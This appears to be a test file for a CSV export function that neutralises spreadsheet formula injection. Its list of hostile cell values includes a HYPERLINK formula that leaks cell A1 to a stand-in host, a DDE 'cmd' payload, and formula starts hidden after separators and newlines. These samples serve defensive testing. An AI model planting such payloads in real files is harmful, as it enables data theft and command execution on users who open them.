import { expect } from "chai";
import { parse } from "csv-parse/sync";
import { CSV_DELIMITER, spreadsheetCsv } from "../../../server/exports/spreadsheetCsv";

const FORMULA_START = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

/** Cells an attacker could type into a decision, a title or a note. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  ';=HYPERLINK("https://evil.example","x")',
  'Shelter places,=1+2',
  "+31 20 123 4567",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "  =1+1",
  "first line\n=1+1",
  "a; \u00a0@cmd",
  "\uff1d1+1",
  'Quote " and ; separator',
  "Ștefan Țurcanu, Łukasz Wałęsa, Zoltán Kővári, Цветелина Георгиева",
];

describe("spreadsheet CSV", () => {
  const file = spreadsheetCsv(["id", "text", "count"], HOSTILE.map((text, i) => [String(i), text, i]));

  it("starts with a UTF-8 byte-order mark and uses ; and CRLF", () => {
    expect(file.startsWith("\uFEFF")).to.equal(true);
    expect(CSV_DELIMITER).to.equal(";");
    expect(file.slice(1).split("\r\n")[0]).to.equal('"id";"text";"count"');
  });

  it("quotes every field, also empty ones", () => {
    const csv = spreadsheetCsv(["a", "b", "c"], [["x", null, undefined], ["", 0, "y"]]);
    expect(csv.slice(1).split("\r\n").filter(Boolean)).to.deep.equal(['"a";"b";"c"', '"x";"";""', '"";"0";"y"']);
  });

  it("reads back cell by cell with a CSV parser, with no cell starting like a formula", () => {
    const rows = parse(file, { bom: true, delimiter: ";", relax_quotes: false }) as string[][];
    expect(rows).to.have.length(HOSTILE.length + 1);
    rows.slice(1).forEach((row, i) => {
      expect(row).to.have.length(3);
      expect(row[0]).to.equal(String(i));
      expect(row[1], JSON.stringify(HOSTILE[i])).not.to.match(FORMULA_START);
      // Nothing is lost: removing the inserted apostrophes gives the original text back.
      expect(row[1]!.replace(/'(?=[=+\-@\t\r\uff1d\uff0b\uff0d\uff20])/g, "")).to.equal(HOSTILE[i]);
    });
    expect(rows[1]![1]).to.equal(`'${HOSTILE[0]}`);
    expect(rows[2]![1]).to.equal(`;'=HYPERLINK("https://evil.example","x")`);
    expect(rows[3]![1]).to.equal("Shelter places,'=1+2");
    expect(rows.at(-1)![1]).to.equal(HOSTILE.at(-1));
  });

  it("leaves no formula start for a reader that splits on , or ; or tab and ignores quotes (Excel in another locale)", () => {
    for (const separator of [",", ";", "\t"]) {
      const pieces = file.replace(/^\uFEFF/, "").split(/\r\n|\n|\r/).flatMap((line) => line.split(separator));
      for (const piece of pieces) {
        const cell = piece.replace(/^[ \u00a0"]+/, "");
        expect(cell, `${JSON.stringify(separator)} reader: ${JSON.stringify(piece)}`).not.to.match(FORMULA_START);
      }
    }
  });
});
